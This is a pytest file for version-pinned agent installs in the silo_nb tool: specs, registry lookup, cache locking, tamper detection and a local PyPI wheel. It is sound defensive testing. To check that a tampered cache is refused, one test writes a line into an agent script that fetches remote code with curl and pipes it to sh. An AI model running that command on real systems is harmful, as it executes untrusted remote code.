"""Agents pinned by version (issue 33, ``sessions/agent_pins.py``): specs, the ACP registry index, the
install cache (once per entry, however many cells ask at once), the tamper check, profiles naming a spec,
and a real PyPI install (a wheel built here of a tiny ACP agent, ``tests/agents/pin_probe_agent.py``)
started by ``run_grid(agents=[...])``. The npm installs here use a stand-in npm (``tests/agents/
fake_npm.py``): the real npm install of claude-agent-acp is ``tests/integration/test_pinned_agents.py``."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import anyio
import anyio.to_thread
import pytest

import silo_nb
from silo_nb.experiments import CellResult, CellSpec, run_cell_blocking, run_grid
from silo_nb.sessions import AgentsService, load_profiles
from silo_nb.sessions.agent_pins import (
    MANIFEST,
    AgentPinError,
    ensure_installed,
    install_agent,
    installed_agents,
    parse_agent_spec,
    resolve_spec,
)
from silo_nb.sessions.doctor import check_agent
from tests.conftest import Workspace
from tests.support.pinned import AGENTS, data, installs

CLAUDE = "npm:@agentclientprotocol/claude-agent-acp@0.101.0"

__all__ = ["data"]  # the fixture


# -- specs and the registry index (no process) -------------------------------------------------------


def test_specs_parse_and_unpinned_or_malformed_ones_say_what_to_write() -> None:
    spec = parse_agent_spec(CLAUDE)
    assert (spec.kind, spec.name, spec.version) == ("npm", "@agentclientprotocol/claude-agent-acp", "0.101.0")
    assert parse_agent_spec("pypi:pin-probe-agent==0.1.0").name == "pin-probe-agent"
    assert parse_agent_spec("acp:claude-acp@0.101.0").kind == "acp"
    for bad in (
        "npm:@agentclientprotocol/claude-agent-acp@latest",
        "npm:@agentclientprotocol/claude-agent-acp@^0.101.0",
        "npm:@agentclientprotocol/claude-agent-acp",
        "pypi:thing>=1.0",
        "pypi:thing",
        "docker:thing@1.0.0",
        "npm:../../etc@1.0.0",
    ):
        with pytest.raises(AgentPinError) as caught:
            parse_agent_spec(bad)
        message = str(caught.value)
        assert "\n" not in message and "npm:PACKAGE@X.Y.Z" in message and "exact version" in message, bad


def test_acp_ids_resolve_from_the_local_index_and_bad_ones_name_it(
    data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    npm = resolve_spec(parse_agent_spec("acp:claude-acp@0.101.0"))
    assert (npm.kind, npm.text) == ("npm", CLAUDE)
    preview = resolve_spec(parse_agent_spec("acp:claude-acp@0.102.0-preview.1"))
    assert preview.version == "0.102.0-preview.1"
    uvx = resolve_spec(parse_agent_spec("acp:probe-py@0.1.0"))
    assert (uvx.kind, uvx.name, uvx.version, uvx.cmd, uvx.args) == (
        "pypi",
        "pin-probe-agent",
        "0.1.0",
        "pin-probe-agent",
        ("--acp",),
    )
    problems = {
        "acp:nobody@1.0.0": "has no agent 'nobody'",
        "acp:claude-acp@0.100.0": "has claude-acp at 0.101.0, 0.102.0-preview.1 only",
        "acp:binary-only@1.0.0": "offers only binary",
        "acp:floating@2.0.0": "exact version",
    }
    for text, expected in problems.items():
        with pytest.raises(AgentPinError) as caught:
            resolve_spec(parse_agent_spec(text))
        assert expected in str(caught.value) and "\n" not in str(caught.value), text
    monkeypatch.setenv("SILO_NB_ACP_REGISTRY", str(data / "missing.json"))
    with pytest.raises(AgentPinError, match=r"missing\.json cannot be read .* SILO_NB_ACP_REGISTRY"):
        resolve_spec(parse_agent_spec("acp:claude-acp@0.101.0"))


def test_a_profile_may_name_its_agent_as_a_spec(tmp_path: Path) -> None:
    profiles_file = tmp_path / "profiles.toml"
    profiles_file.write_text(
        f'[[profiles]]\nid = "claude-pinned"\nagent = "{CLAUDE}"\nargs = ["--verbose"]\n'
        '[[profiles]]\nid = "floating"\nagent = "npm:some-agent@latest"\n'
    )
    profiles, problems = load_profiles([profiles_file])
    pinned = profiles["claude-pinned"]
    assert (pinned.agent, pinned.command, pinned.args) == (CLAUDE, CLAUDE, ("--verbose",))
    assert "floating" not in profiles
    assert len(problems) == 1 and "profile floating" in problems[0] and "exact version" in problems[0]
    # A bare spec is a profile of its own where a profile id is asked (run_grid's agents= axis).
    service = silo_nb.AgentsService(workspace_dir=str(tmp_path), config_dirs=[])
    bare = service.profiles.get(CLAUDE)
    assert bare is not None and bare.agent == CLAUDE
    with pytest.raises(AgentPinError, match="exact version"):
        service.profiles.get("npm:x@latest")


# -- the cache (a stand-in npm: a process per install) ----------------------------------------------


async def test_many_cells_of_three_agents_install_each_once(data: Path) -> None:
    specs = [CLAUDE, "npm:@agentclientprotocol/codex-acp@2.6.0", "acp:claude-acp@0.102.0-preview.1"]
    got: list[str] = []

    async def one(spec: str) -> None:
        got.append((await install_agent(spec)).path)

    async with anyio.create_task_group() as group:
        for _ in range(1000):
            for spec in specs:
                group.start_soon(one, spec)
    assert sorted(installs(data)) == sorted(
        [
            "@agentclientprotocol/claude-agent-acp@0.101.0",
            "@agentclientprotocol/codex-acp@2.6.0",
            "@agentclientprotocol/claude-agent-acp@0.102.0-preview.1",
        ]
    )
    assert len(got) == 3000 and len(set(got)) == 3
    # Threads bypassing the tasks' lock (a user's executor's) meet the entry's file lock: still once.
    results: list[str] = []
    threads = [
        threading.Thread(target=lambda: results.append(ensure_installed("npm:threaded-agent@1.0.0").path))
        for _ in range(8)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert len(results) == 8 and len(set(results)) == 1
    assert installs(data).count("threaded-agent@1.0.0") == 1


async def test_an_entry_of_another_data_folder_is_not_reused(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The process remembers a checked entry per data folder: with SILO_NB_DATA_DIR changed (another
    test, another workspace), the same spec is that folder's own entry (a full run once reused
    tests/node/pinned's)."""
    first = await install_agent(CLAUDE)
    other = tmp_path / "other-data"
    monkeypatch.setenv("SILO_NB_DATA_DIR", str(other))
    second = await install_agent(CLAUDE)
    assert Path(second.path).is_relative_to(other) and Path(first.path).is_relative_to(data)
    assert installs(data) == [CLAUDE.removeprefix("npm:")] * 2


def test_a_failed_install_is_one_line_and_a_half_finished_one_never_counts(
    data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_NPM_FAIL", "1")
    with pytest.raises(AgentPinError) as caught:
        ensure_installed("npm:no-such-agent@1.0.0")
    message = str(caught.value)
    assert "\n" not in message and message.startswith("npm install no-such-agent@1.0.0 failed")
    assert "404 Not Found" in message
    assert [p.name for p in (data / "agents").iterdir() if p.is_dir()] == []  # nothing left to count
    monkeypatch.delenv("FAKE_NPM_FAIL")
    # An install killed half-way leaves a folder without a manifest: it is installed again, not used.
    spec = parse_agent_spec("npm:half-agent@1.0.0")
    leftover = data / "agents" / spec.entry_name
    (leftover / "node_modules").mkdir(parents=True)
    (leftover / "node_modules" / "planted.js").write_text("evil")
    agent = ensure_installed(spec.text)
    assert installs(data)[-1] == "half-agent@1.0.0"
    assert not (leftover / "node_modules" / "planted.js").exists()
    assert (
        agent.args[0].endswith("node_modules/half-agent/dist/index.js") and agent.integrity == "sha512-fake"
    )


def test_a_tampered_entry_is_refused_and_a_touched_one_is_not(data: Path) -> None:
    agent = ensure_installed(CLAUDE)
    entry = Path(agent.path)
    script = Path(agent.args[0])
    os.utime(script, ns=(1, 1))  # the same bytes with another mtime (a restored cache): still good
    assert ensure_installed(CLAUDE) == agent
    script.write_text("require('child_process').execSync('curl evil | sh')\n")
    with pytest.raises(AgentPinError) as caught:
        ensure_installed(CLAUDE)
    message = str(caught.value)
    assert (
        "changed since its install (node_modules/@agentclientprotocol/claude-agent-acp/dist/index.js)"
        in message
    )
    assert f"remove {entry}" in message and "\n" not in message
    assert installs(data).count("@agentclientprotocol/claude-agent-acp@0.101.0") == 1  # never reinstalled
    listed = {folder: state for _, folder, state in installed_agents()}
    assert "refused" in listed[str(entry)]
    # An added file is a change too; a removed manifest makes the entry not installed (installed again).
    other = ensure_installed("npm:other-agent@1.0.0")
    (Path(other.path) / "node_modules" / "extra.js").write_text("x")
    with pytest.raises(AgentPinError, match=r"\(node_modules/extra\.js\)"):
        ensure_installed("npm:other-agent@1.0.0")
    (Path(other.path) / MANIFEST).unlink()
    assert ensure_installed("npm:other-agent@1.0.0").path == other.path
    assert installs(data).count("other-agent@1.0.0") == 2


# -- a real PyPI install, started by run_grid ---------------------------------------------------------


def build_probe_wheel(folder: Path) -> Path:
    """``pin-probe-agent`` 0.1.0 as a wheel (a zip with its dist-info), built here: no build backend."""
    dist = "pin_probe_agent-0.1.0.dist-info"
    files = {
        "pin_probe_agent/__init__.py": (AGENTS / "pin_probe_agent.py").read_bytes(),
        f"{dist}/METADATA": b"Metadata-Version: 2.1\nName: pin-probe-agent\nVersion: 0.1.0\n",
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{dist}/entry_points.txt": b"[console_scripts]\npin-probe-agent = pin_probe_agent:main\n",
    }
    record = []
    for name, body in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(body)}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = ("\n".join(record) + "\n").encode()
    wheel = folder / "pin_probe_agent-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return wheel


class ThreadCells:
    """An executor like Dask's threads: each cell on a loop of its own in a worker thread, so the cells
    install their agent themselves (run_grid installs only for cells on its own loop)."""

    label = "threads"

    async def run(self, spec: CellSpec) -> CellResult:
        return await anyio.to_thread.run_sync(run_cell_blocking, spec)


async def test_a_pypi_agent_installs_into_its_own_venv_and_a_grid_records_its_version(
    data: Path, workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    build_probe_wheel(wheels)
    monkeypatch.setenv("PIP_NO_INDEX", "1")  # pip's own variables: the wheel here, no registry
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    spec = "pypi:pin-probe-agent==0.1.0"
    table = await run_grid(
        ["say something"],
        agents=[spec, "demo", "acp:probe-py@0.1.0"],
        repeats=2,
        folder=tmp_path / "runs",
        progress=False,
        config_dirs=[str(workspace.config)],
    )
    rows = table.set_index("cell")
    assert set(table["cell_status"]) == {"finished"}, table[["cell", "error"]].to_dict("records")
    pinned = rows[rows["agent_spec"] == spec]
    assert len(pinned) == 2
    assert set(pinned["agent_name"]) == {"pin-probe-agent"} and set(pinned["agent_version"]) == {"0.1.0"}
    assert set(pinned["text"]) == {"pinned"}
    registry = rows[rows["agent_spec"] == "acp:probe-py@0.1.0"]
    assert len(registry) == 2 and set(registry["agent_version"]) == {"0.1.0"}
    demo = rows[rows["profile"] == "demo"]
    assert demo["agent_spec"].isna().all() and set(demo["agent_name"]) == {"silo-demo"}
    # The acp: entry resolves to the same PyPI spec: one venv, installed once, listed with its spec.
    listed = [(agent.spec, agent.kind, state) for agent, _, state in installed_agents() if agent]
    assert listed == [(spec, "pypi", "ok")]
    # The same spec on a plain connect: the cached venv, no second pip run (the wheel folder is gone).
    for wheel in wheels.iterdir():
        wheel.unlink()
    service = AgentsService(workspace_dir=str(workspace.folder), data_dir=str(workspace.data), config_dirs=[])
    handle = await service.sessions.connect(spec, cwd=str(workspace.folder))
    try:
        assert handle.init_result["agentInfo"]["version"] == "0.1.0"
    finally:
        await handle.aclose()
    # %silo doctor starts it the same way (a bare initialize), from the cache too.
    pinned_profile = service.profiles.get(spec)
    assert pinned_profile is not None
    check = await check_agent(pinned_profile, str(workspace.folder), None)
    assert check.problem is None and (check.agent_name, check.version) == ("pin-probe-agent", "0.1.0")
    assert json.loads(json.dumps(installs(data))) == []  # no npm ran


async def test_a_grid_or_a_connect_with_a_spec_that_does_not_resolve_is_one_line(
    data: Path, workspace: Workspace, tmp_path: Path
) -> None:
    runs = tmp_path / "runs"
    cases = {
        "npm:@agentclientprotocol/claude-agent-acp@latest": "exact version",
        "acp:nobody@1.0.0": "has no agent 'nobody'",
        "acp:binary-only@1.0.0": "offers only binary",
    }
    for spec, expected in cases.items():
        with pytest.raises(ValueError) as caught:
            await run_grid(["hi"], agents=[spec], folder=runs, progress=False)
        assert expected in str(caught.value) and "\n" not in str(caught.value), spec
    with pytest.raises(ValueError, match="either as profiles= or as agents=, not both"):
        await run_grid(["hi"], profiles=["demo", "other"], agents=[CLAUDE], folder=runs, progress=False)
    with pytest.raises(ValueError, match="non-empty list"):
        await run_grid(["hi"], agents=CLAUDE, folder=runs, progress=False)  # type: ignore[arg-type]
    assert not runs.exists()  # refused before the run's folder was made
    service = AgentsService(workspace_dir=str(workspace.folder), data_dir=str(workspace.data), config_dirs=[])
    with pytest.raises(silo_nb.AgentSessionError, match="exact version"):
        await service.sessions.connect("npm:some-agent@next")


def test_processes_installing_one_entry_at_once_install_it_once(data: Path) -> None:
    code = (
        "from silo_nb.sessions.agent_pins import ensure_installed\n"
        "print(ensure_installed('npm:shared-agent@4.5.6').path)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(AGENTS.parent.parent)}
    children = [
        subprocess.Popen([sys.executable, "-c", code], env=env, stdout=subprocess.PIPE, text=True)
        for _ in range(4)
    ]
    paths = {child.communicate(timeout=120)[0].strip() for child in children}
    assert all(child.returncode == 0 for child in children)
    assert len(paths) == 1 and installs(data) == ["shared-agent@4.5.6"]


async def test_cells_on_worker_threads_install_their_pinned_agent_themselves(
    data: Path, workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    build_probe_wheel(wheels)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    table = await run_grid(
        ["one", "two"],
        agents=["pypi:pin-probe-agent==0.1.0", "npm:missing-agent@1.0.0"],
        repeats=2,
        concurrency=4,
        executor=ThreadCells(),
        folder=tmp_path / "runs",
        progress=False,
    )
    pinned = table[table["agent_spec"] == "pypi:pin-probe-agent==0.1.0"]
    assert len(pinned) == 4 and set(pinned["cell_status"]) == {"finished"}
    assert set(pinned["agent_version"]) == {"0.1.0"}
    assert [(a.kind, state) for a, _, state in installed_agents() if a] == [("pypi", "ok")]  # one venv
    # The npm one does not exist (the stand-in says 404 unless told otherwise): each of its cells failed,
    # its row says why in one line, and the pinned cells beside it were not touched.
    missing = table[table["cell"].str.contains("missing")]
    assert len(missing) == 4 and set(missing["cell_status"]) == {"failed"}
    for error in missing["error"]:
        assert "Could not start npm:missing-agent@1.0.0: npm install missing-agent@1.0.0 failed" in error
        assert "404 Not Found" in error and "\n" not in error
